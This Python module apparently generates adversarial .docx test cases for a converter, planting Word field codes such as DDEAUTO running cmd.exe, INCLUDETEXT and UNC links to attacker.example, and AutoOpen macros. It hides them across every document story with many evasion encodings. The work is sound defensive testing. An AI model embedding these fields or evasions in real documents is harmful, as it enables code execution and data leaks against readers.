"""Word field codes that reach outside the document or run something, written the ways Word still
reads them: instruction runs split anywhere (also with run properties, proofing marks and
deleted-text runs between), character references, odd case and leading tabs, simple fields,
a field whose type comes from a nested QUOTE field, the Strict namespace; planted in every story
Word evaluates (body, table cell, text boxes, alternate content, headers, footers, footnotes,
endnotes, comments, the glossary)."""

from __future__ import annotations

import itertools
import random
import re
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from tests.converters.adversarial.opc import Package, char_refs, xml_text
from tests.converters.adversarial.variants import Variant

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MC = "http://schemas.openxmlformats.org/markup-compatibility/2006"
NS = f'xmlns:w="{W}" xmlns:r="{R}"'
CT = "application/vnd.openxmlformats-officedocument.wordprocessingml"
RESULT = "表示結果"  # what the field shows; harmless, so only the instruction is dangerous


@dataclass(frozen=True)
class FieldAttack:
    name: str
    instruction: str  # as Word stores it (backslashes doubled inside quoted arguments)
    nested: str | None = None  # a field inside the instruction (a QUOTE making the keyword, an INCLUDETEXT ...)
    nested_at: int = 0  # where in the instruction the nested field stands
    nested_result: str = "DDEAUTO"  # what the nested field last showed


FIELDS: tuple[FieldAttack, ...] = (
    FieldAttack("DDE", r'DDE c:\\windows\\system32\\cmd.exe "/k calc.exe"'),
    FieldAttack("DDEAUTO", r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'),
    FieldAttack("INCLUDETEXT", r'INCLUDETEXT "http://attacker.example/payload.docx"'),
    FieldAttack("INCLUDEPICTURE", r'INCLUDEPICTURE "http://attacker.example/beacon.png" \d'),
    FieldAttack("IMPORT", r'IMPORT "\\\\attacker.example\\share\\a.wmf"'),
    FieldAttack("LINK", r'LINK Excel.Sheet.12 "C:\\x\\book.xlsx" "Sheet1!R1C1" \a \t'),
    FieldAttack("DATABASE",
                r'DATABASE \d "C:\\x\\db.accdb" \c "Provider=Microsoft.ACE.OLEDB.12.0" \s "SELECT * FROM t"'),
    FieldAttack("MACROBUTTON", r"MACROBUTTON Normal.NewMacros.AutoOpen ここをクリック"),
    FieldAttack("HYPERLINK-file", r'HYPERLINK "file:///C:/Windows/System32/calc.exe"'),
    FieldAttack("HYPERLINK-unc", r'HYPERLINK "\\\\attacker.example\\share\\a.exe"'),
    # the target after a switch that takes an argument (a parser taking the first quoted word sees a tooltip)
    FieldAttack("HYPERLINK-file-after-switch", r'HYPERLINK \o "ヒント" "file:///C:/Windows/System32/calc.exe"'),
    FieldAttack("HYPERLINK-unc-with-bookmark", r'HYPERLINK \l "_top" "\\\\attacker.example\\share\\a.exe"'),
    FieldAttack("HYPERLINK-file-unquoted", r"HYPERLINK file:///C:/Windows/System32/calc.exe"),
    # { {QUOTE 68 68 69 65 85 84 79} c:\\windows\\system32\\cmd.exe "/k calc.exe" } -> DDEAUTO ...
    FieldAttack("QUOTE-nested-DDEAUTO", r' c:\\windows\\system32\\cmd.exe "/k calc.exe"', "QUOTE 68 68 69 65 85 84 79"),
    # PRINT sends its argument to the printer driver (PostScript passthrough)
    FieldAttack("PRINT", r'PRINT \p page "/f (calc.exe) def"'),
    # a local IF whose branch is a field that reaches outside
    FieldAttack("IF-nested-INCLUDETEXT", 'IF 1 = 1 "" "否"', r'INCLUDETEXT "http://attacker.example/a.docx"',
                nested_at=10, nested_result="結果"),
)

RPR = "<w:rPr><w:b/><w:color w:val=\"FF0000\"/></w:rPr>"
NOISE = '<w:proofErr w:type="spellStart"/><w:bookmarkStart w:id="77" w:name="_adv"/><w:bookmarkEnd w:id="77"/>'
DEL = '<w:del w:id="{id}" w:author="adv" w:date="2024-01-01T00:00:00Z">{runs}</w:del>'


def _run(body: str, rpr: str = "") -> str:
    return f"<w:r>{rpr}{body}</w:r>"


def _instr(text_xml: str, tag: str = "instrText") -> str:
    return f'<w:{tag} xml:space="preserve">{text_xml}</w:{tag}>'


def _char(kind: str) -> str:
    return _run(f'<w:fldChar w:fldCharType="{kind}"/>')


# --- how the instruction is written: instruction text -> the runs between begin and separate ----
Encoder = Callable[[str], str]


def plain(instruction: str) -> str:
    return _run(_instr(xml_text(instruction)))


def split_at(positions: tuple[int, ...], instruction: str) -> str:
    cuts = [0, *sorted(p for p in positions if 0 < p < len(instruction)), len(instruction)]
    return "".join(_run(_instr(xml_text(instruction[a:b]))) for a, b in itertools.pairwise(cuts) if b > a)


def per_char(instruction: str, rpr: str = "", noise: str = "") -> str:
    return noise.join(_run(_instr(xml_text(char)), rpr) for char in instruction)


def entity(instruction: str) -> str:
    return _run(_instr(char_refs(instruction, chars=None)))


def entity_split(instruction: str) -> str:
    middle = len(instruction) // 2
    return _run(_instr(char_refs(instruction[:middle]))) + _run(_instr(char_refs(instruction[middle:], ":\\/.")))


def odd_case(instruction: str) -> str:
    keyword, _, rest = instruction.partition(" ")
    mixed = "".join(c.lower() if i % 2 else c.upper() for i, c in enumerate(keyword))
    return _run(_instr(xml_text(f"\t  {mixed} \t{rest}")))


def deleted(instruction: str) -> str:
    """Half the instruction as deleted-instruction text inside a tracked deletion."""
    middle = len(instruction) // 2
    first = _run(_instr(xml_text(instruction[:middle])))
    second = _run(_instr(xml_text(instruction[middle:]), "delInstrText"))
    return first + DEL.format(id=901, runs=second)


CONTAINERS = (
    ('<w:ins w:id="{n}" w:author="adv" w:date="2024-01-01T00:00:00Z">', "</w:ins>"),
    ('<w:sdt><w:sdtPr><w:id w:val="{n}"/></w:sdtPr><w:sdtContent>', "</w:sdtContent></w:sdt>"),
    ('<w:customXml w:element="x{n}">', "</w:customXml>"),
    ('<w:smartTag w:uri="urn:schemas-microsoft-com:office:smarttags" w:element="place">', "</w:smartTag>"),
    ('<w:hyperlink w:anchor="_adv">', "</w:hyperlink>"),
    ('<w:dir w:val="ltr">', "</w:dir>"),
    ('<w:moveTo w:id="{n}" w:author="adv" w:date="2024-01-01T00:00:00Z">', "</w:moveTo>"),
)


def in_containers(instruction: str) -> str:
    """Each character's run inside another run container Word reads through (tracked insertion,
    content control, custom XML, smart tag, hyperlink, bidi, move)."""
    out = []
    for number, char in enumerate(instruction):
        opening, closing = CONTAINERS[number % len(CONTAINERS)]
        out.append(opening.format(n=700 + number) + _run(_instr(xml_text(char))) + closing)
    return "".join(out)


ENCODERS: dict[str, Encoder] = {
    "plain": plain,
    "char-per-run": per_char,
    "char-per-run-rpr-noise": partial(per_char, rpr=RPR, noise=NOISE),
    "entity": entity,
    "entity-split": entity_split,
    "odd-case-tabs": odd_case,
    "delInstrText-half": deleted,
    "run-containers": in_containers,
}


def _with_nested(field: FieldAttack, encode: Encoder, nested: str) -> str:
    at = field.nested_at
    before = encode(field.instruction[:at]) if at else ""
    return before + nested + encode(field.instruction[at:])


def complex_field(field: FieldAttack, encode: Encoder, split_paragraphs: bool = False) -> list[str]:
    """The paragraphs holding one complex field."""
    tail = _char("separate") + _run(f"<w:t>{RESULT}</w:t>") + _char("end")
    if field.nested is not None:
        nested = (_char("begin") + encode(field.nested) + _char("separate")
                  + _run(f"<w:t>{xml_text(field.nested_result)}</w:t>") + _char("end"))
        instruction = _with_nested(field, encode, nested)
    else:
        instruction = encode(field.instruction)
    if split_paragraphs:
        text = field.instruction if field.nested is None else field.nested
        middle = len(text) // 2
        if field.nested is None:
            first, second = encode(text[:middle]), encode(text[middle:])
        else:  # cut inside the nested field's instruction
            first = encode(field.instruction[:field.nested_at]) + _char("begin") + encode(text[:middle])
            second = (encode(text[middle:]) + _char("separate") + _run(f"<w:t>{xml_text(field.nested_result)}</w:t>")
                      + _char("end") + encode(field.instruction[field.nested_at:]))
        return [f"<w:p>{_char('begin')}{first}</w:p>", f"<w:p>{second}{tail}</w:p>"]
    return [f"<w:p>{_char('begin')}{instruction}{tail}</w:p>"]


def structural(field: FieldAttack, how: str) -> list[str]:
    """Field markup a strict parser might not expect but Word reads: no separator, never closed,
    stray end and separator characters first, all field characters and the instruction in one run,
    and the field inside the result of a local (PAGE) field."""
    paragraph = complex_field(field, plain)[0]
    inner = paragraph[len("<w:p>"):-len("</w:p>")]
    if how == "no-separate":
        inner = inner.replace(_char("separate") + _run(f"<w:t>{RESULT}</w:t>"), "", 1)  # the outer one
    elif how == "never-closed":
        inner = inner[: inner.rindex(_char("separate"))]
    elif how == "stray-end-and-separate-first":
        inner = _char("end") + _char("separate") + inner
    elif how == "one-run":
        inner = re.sub(r"</w:r><w:r>", "", inner)
    elif how == "inside-PAGE-result":
        inner = (_char("begin") + _run(_instr(" PAGE ")) + _char("separate") + inner + _char("end"))
    return [f"<w:p>{inner}</w:p>"]


STRUCTURES = ("no-separate", "never-closed", "stray-end-and-separate-first", "one-run", "inside-PAGE-result")


def form_field_macro(package: Package) -> None:
    """A legacy text form field that names macros to run on entry and exit."""
    _before_sectpr(package, '<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="Text1"/>'
                            '<w:enabled/><w:calcOnExit w:val="0"/><w:entryMacro w:val="AutoOpen"/>'
                            '<w:exitMacro w:val="Normal.NewMacros.Run"/><w:textInput/></w:ffData></w:fldChar></w:r>'
                            '<w:r><w:instrText xml:space="preserve"> FORMTEXT </w:instrText></w:r>'
                            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>入力</w:t></w:r>'
                            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def _deleted_instruction(instruction: str) -> str:
    return _run(_instr(xml_text(instruction), "delInstrText")) if instruction else ""


def all_deleted_field(field: FieldAttack) -> list[str]:
    """The whole field (nested ones too) inside a tracked deletion (w:delInstrText, w:delText)."""
    out = []
    for paragraph in complex_field(field, _deleted_instruction):
        inner = paragraph[len("<w:p>"):-len("</w:p>")]
        inner = inner.replace("<w:t>", '<w:delText xml:space="preserve">').replace("</w:t>", "</w:delText>")
        out.append(f"<w:p>{DEL.format(id=902, runs=inner)}</w:p>")
    return out


def simple_field(field: FieldAttack, how: str = "plain") -> list[str]:
    if field.nested is not None:  # the nested field as a simple field inside the complex field's instruction
        nested = (f'<w:fldSimple w:instr="{xml_text(field.nested)}"><w:r><w:t>{xml_text(field.nested_result)}'
                  "</w:t></w:r></w:fldSimple>")
        return [f"<w:p>{_char('begin')}{_with_nested(field, plain, nested)}{_char('separate')}"
                f"<w:r><w:t>{RESULT}</w:t></w:r>{_char('end')}</w:p>"]
    instruction = field.instruction
    if how == "entity":
        attribute = char_refs(instruction)
    elif how == "odd-case-tabs":
        keyword, _, rest = instruction.partition(" ")
        attribute = xml_text(f"\t {keyword.lower()}  {rest}").replace("\t", "&#9;")
    else:
        attribute = xml_text(instruction)
    return [f'<w:p><w:fldSimple w:instr="{attribute}"><w:r><w:t>{RESULT}</w:t></w:r></w:fldSimple></w:p>']


# --- where the field stands: paragraphs -> an edit of the package ------------------------------
def _before_sectpr(package: Package, xml: str) -> None:
    package.insert_before_last("word/document.xml", "<w:sectPr", xml)


def in_body(paragraphs: list[str], package: Package) -> None:
    _before_sectpr(package, "".join(paragraphs))


def in_table(paragraphs: list[str], package: Package) -> None:
    _before_sectpr(package, '<w:tbl><w:tblPr><w:tblW w:w="0" w:type="auto"/></w:tblPr><w:tblGrid>'
                            '<w:gridCol w:w="4000"/></w:tblGrid><w:tr><w:tc><w:tcPr><w:tcW w:w="4000" w:type="dxa"/>'
                            f"</w:tcPr>{''.join(paragraphs)}</w:tc></w:tr></w:tbl><w:p/>")


def in_vml_textbox(paragraphs: list[str], package: Package) -> None:
    _before_sectpr(package, '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="adv_tb" '
                            'type="#_x0000_t202" style="width:220pt;height:60pt"><v:textbox><w:txbxContent>'
                            f"{''.join(paragraphs)}</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>")


def in_dml_textbox(paragraphs: list[str], package: Package) -> None:
    """A DrawingML text box in mc:Choice (what Word 2010+ reads), a harmless VML one as fallback."""
    shape = (
        f'<w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="2794000" cy="762000"/><wp:docPr id="901" name="Text Box 901"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.microsoft.com/office/word/2010/wordprocessingShape">'
        '<wps:wsp xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape">'
        '<wps:cNvSpPr txBox="1"/>'
        '<wps:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="2794000" cy="762000"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></wps:spPr>'
        f"<wps:txbx><w:txbxContent>{''.join(paragraphs)}</w:txbxContent></wps:txbx><wps:bodyPr/></wps:wsp>"
        "</a:graphicData></a:graphic></wp:inline></w:drawing>")
    fallback = ('<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="adv_fb" type="#_x0000_t202" '
                'style="width:220pt;height:60pt"><v:textbox><w:txbxContent><w:p><w:r><w:t>代替</w:t></w:r></w:p>'
                "</w:txbxContent></v:textbox></v:shape></w:pict>")
    _before_sectpr(package, f'<w:p><w:r><mc:AlternateContent xmlns:mc="{MC}"><mc:Choice Requires="wps" '
                            'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape">'
                            f"{shape}</mc:Choice><mc:Fallback>{fallback}</mc:Fallback></mc:AlternateContent>"
                            "</w:r></w:p>")


def in_choice(paragraphs: list[str], package: Package) -> None:
    _before_sectpr(package, f'<mc:AlternateContent xmlns:mc="{MC}"><mc:Choice Requires="w14" '
                            'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml">'
                            f"{''.join(paragraphs)}</mc:Choice><mc:Fallback><w:p><w:r><w:t>代替</w:t></w:r></w:p>"
                            "</mc:Fallback></mc:AlternateContent>")


def in_fallback(paragraphs: list[str], package: Package) -> None:
    """Choice requires a namespace no application knows, so Word takes the Fallback."""
    _before_sectpr(package, f'<mc:AlternateContent xmlns:mc="{MC}"><mc:Choice Requires="x9" '
                            'xmlns:x9="urn:adversarial:unknown"><w:p><w:r><w:t>代替</w:t></w:r></w:p></mc:Choice>'
                            f"<mc:Fallback>{''.join(paragraphs)}</mc:Fallback></mc:AlternateContent>")


def in_process_content(paragraphs: list[str], package: Package) -> None:
    """Inside an element of an ignorable namespace marked mc:ProcessContent: a markup-compatibility
    reader drops the wrapper and reads what it holds."""
    _before_sectpr(package, f'<x9:wrap xmlns:x9="urn:adversarial:unknown" xmlns:mc="{MC}" mc:Ignorable="x9" '
                            f'mc:ProcessContent="x9:wrap">{"".join(paragraphs)}</x9:wrap>')


def _story_part(package: Package, kind: str) -> str:
    """The header or footer part python-docx made (rewritten by name, not by assumption)."""
    names = sorted(n for n in package.parts if n.startswith(f"word/{kind}") and n.endswith(".xml"))
    if not names:
        raise KeyError(f"the base has no {kind}")
    return names[0]


def in_header(paragraphs: list[str], package: Package) -> None:
    package.insert_before_last(_story_part(package, "header"), "</w:hdr>", "".join(paragraphs))


def in_footer(paragraphs: list[str], package: Package) -> None:
    package.insert_before_last(_story_part(package, "footer"), "</w:ftr>", "".join(paragraphs))


def _note_part(kind: str, paragraphs: list[str]) -> bytes:
    tag = kind[:-1]  # footnotes -> footnote
    separators = (f'<w:{tag} w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p></w:{tag}>'
                  f'<w:{tag} w:type="continuationSeparator" w:id="0"><w:p><w:r><w:continuationSeparator/></w:r>'
                  f"</w:p></w:{tag}>")
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:{kind} {NS}>{separators}'
            f'<w:{tag} w:id="1">{"".join(paragraphs)}</w:{tag}></w:{kind}>').encode()


def in_note(kind: str, paragraphs: list[str], package: Package) -> None:
    package.add_part(f"word/{kind}.xml", _note_part(kind, paragraphs), f"{CT}.{kind}+xml", "word/document.xml",
                     kind)
    reference = "footnoteReference" if kind == "footnotes" else "endnoteReference"
    _before_sectpr(package, f'<w:p><w:r><w:t>注</w:t></w:r><w:r><w:{reference} w:id="1"/></w:r></w:p>')


def in_comment(paragraphs: list[str], package: Package) -> None:
    comments = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:comments {NS}>'
                '<w:comment w:id="0" w:author="adv" w:date="2024-01-01T00:00:00Z" w:initials="a">'
                f'{"".join(paragraphs)}</w:comment></w:comments>').encode()
    package.add_part("word/comments.xml", comments, f"{CT}.comments+xml", "word/document.xml", "comments")
    _before_sectpr(package, '<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>注釈付き</w:t></w:r>'
                            '<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>')


def in_glossary(paragraphs: list[str], package: Package) -> None:
    glossary = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:glossaryDocument {NS}><w:docParts>'
                '<w:docPart><w:docPartPr><w:name w:val="定型句"/><w:category><w:name w:val="General"/>'
                '<w:gallery w:val="autoTxt"/></w:category><w:guid w:val="{6F1C2A53-0B5D-4E8B-9A57-3C2C1D8E9F01}"/>'
                f'</w:docPartPr><w:docPartBody>{"".join(paragraphs)}<w:sectPr/></w:docPartBody></w:docPart>'
                "</w:docParts></w:glossaryDocument>").encode()
    package.add_part("word/glossary/document.xml", glossary, f"{CT}.document.glossary+xml", "word/document.xml",
                     "glossaryDocument")


Location = Callable[[list[str], Package], None]
BODY_LOCATIONS: dict[str, Location] = {
    "body": in_body,
    "table-cell": in_table,
    "textbox-vml": in_vml_textbox,
    "textbox-dml-in-choice": in_dml_textbox,
    "mc-choice": in_choice,
    "mc-fallback": in_fallback,
    "mc-processcontent": in_process_content,
    "footnote": partial(in_note, "footnotes"),
    "endnote": partial(in_note, "endnotes"),
    "comment": in_comment,
    "glossary": in_glossary,
}
STORY_LOCATIONS: dict[str, Location] = {"header": in_header, "footer": in_footer}


def _plant(paragraphs: list[str], location: Location, strict: bool, package: Package, utf16: str = "") -> None:
    location(paragraphs, package)
    if strict:
        package.to_strict()
    if utf16:
        package.to_utf16(utf16)


def _split_positions(field: FieldAttack) -> list[tuple[int, ...]]:
    """Cuts in two runs: for DDEAUTO every cut inside the keyword and just past it, for the others
    four cuts sampled there; two cuts sampled in the arguments; one three-way cut. The samples are
    seeded with the field's name, so a failure reproduces. (char-per-run cuts everywhere at once.)"""
    text = field.nested or field.instruction
    keyword = len(text.split(" ", 1)[0]) if text.strip() else 1
    rng = random.Random(field.name)  # noqa: S311 - a reproducible sample, not a secret
    head = range(1, keyword + 2)
    chosen = list(head) if field.name == "DDEAUTO" else sorted(rng.sample(head, min(4, len(head))))
    rest = range(keyword + 2, len(text))
    chosen += sorted(rng.sample(rest, min(2, len(rest))))
    return [(p,) for p in chosen] + [(1, keyword // 2 + 1, keyword + 3)]


SIMPLE_EVERYWHERE = frozenset({"DDEAUTO", "INCLUDEPICTURE", "HYPERLINK-file", "DATABASE", "IF-nested-INCLUDETEXT"})


def word_field_variants(base: str, stories: bool = True, full: bool = True) -> list[Variant]:
    """``full``: the whole matrix; otherwise the few variants that show a base of another maker
    (LibreOffice) behaves the same."""
    out: list[Variant] = []

    def add(field: FieldAttack, how: str, where: str, paragraphs: list[str], location: Location,
            strict: bool = False) -> None:
        out.append(Variant("word-field", field.name, how, where, base,
                           partial(_plant, paragraphs, location, strict)))

    for field in FIELDS:
        if not full:
            add(field, "plain", "body", complex_field(field, plain), in_body)
            add(field, "char-per-run-rpr-noise", "body", complex_field(field, ENCODERS["char-per-run-rpr-noise"]),
                in_body)
            continue
        for how, encode in ENCODERS.items():
            add(field, how, "body", complex_field(field, encode), in_body)
        for cuts in _split_positions(field):
            how = "split-at-" + "-".join(map(str, cuts))
            encoder = partial(split_at, cuts)
            add(field, how, "body", complex_field(field, encoder), in_body)
        add(field, "across-paragraphs", "body", complex_field(field, plain, split_paragraphs=True), in_body)
        dirty = 'w:fldCharType="begin" w:dirty="true" w:fldLock="true"/>'  # update on open, then lock
        add(field, "dirty-locked", "body", [p.replace('w:fldCharType="begin"/>', dirty)
                                            for p in complex_field(field, plain)], in_body)
        add(field, "all-deleted", "body", all_deleted_field(field), in_body)
        for how in STRUCTURES:
            add(field, how, "body", structural(field, how), in_body)
        add(field, "fldSimple", "body", simple_field(field), in_body)
        if field.nested is None:
            add(field, "fldSimple-entity", "body", simple_field(field, "entity"), in_body)
            add(field, "fldSimple-odd-case-tabs", "body", simple_field(field, "odd-case-tabs"), in_body)
        locations = dict(BODY_LOCATIONS)
        if stories:
            locations.update(STORY_LOCATIONS)
        for where, location in locations.items():
            if where == "body":
                continue
            add(field, "plain", where, complex_field(field, plain), location)
            if field.name in SIMPLE_EVERYWHERE:
                add(field, "fldSimple", where, simple_field(field), location)
        out.append(Variant("word-field", field.name, "utf16-part", "body", base,
                           partial(_plant, complex_field(field, plain), in_body, False, utf16="word/document.xml")))
        add(field, "strict", "body", complex_field(field, plain), in_body, strict=True)
        add(field, "strict-char-per-run", "body", complex_field(field, per_char), in_body, strict=True)
        add(field, "strict-fldSimple", "body", simple_field(field), in_body, strict=True)
        add(field, "strict", "footnote", complex_field(field, plain), partial(in_note, "footnotes"), strict=True)
        if stories:
            add(field, "strict", "header", complex_field(field, plain), in_header, strict=True)
    if full:
        out.append(Variant("word-field", "FORMTEXT-entryMacro", "plain", "body", base, form_field_macro))
    return out
